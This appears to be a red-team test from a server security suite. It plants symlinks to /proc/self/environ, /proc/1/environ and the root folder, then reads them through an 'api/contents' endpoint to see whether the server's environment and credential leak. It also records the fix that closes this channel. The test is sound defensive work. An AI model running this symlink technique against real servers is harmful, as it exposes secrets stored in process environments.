from __future__ import annotations

from tests.redteam.channel import channel
from tests.redteam.targets import Target

LINK = """
import os
places = {"env.txt": "/proc/self/environ", "parent.txt": "/proc/1/environ", "root": "/proc/self/root",
          "cwd": "/proc/self/cwd", "slash": "/", "up": "..", "fd": "/proc/self/fd"}
for name, place in places.items():
    if not os.path.lexists(name):
        os.symlink(place, name)
"""
PATHS = (
    "env.txt",
    "parent.txt",
    "root/proc/self/environ",
    "slash/proc/self/environ",
    "cwd/env.txt",
    "up/proc/self/environ",
)


@channel(
    "symlink-proc",
    "Links to /proc, which mean the server's process to the server: its environment, its root folder",
    direction="reach",
    closed_by="contents manager: paths are walked without following links",
)
def attack(site: Target, secret: bytes) -> bytes | None:
    site.run(LINK)
    found = [site.get(f"api/contents/{path}?type=file&format=text").body for path in PATHS]
    site.run("[os.remove(name) for name in places];")
    return secret if site.credential in b"\n".join(found) else None
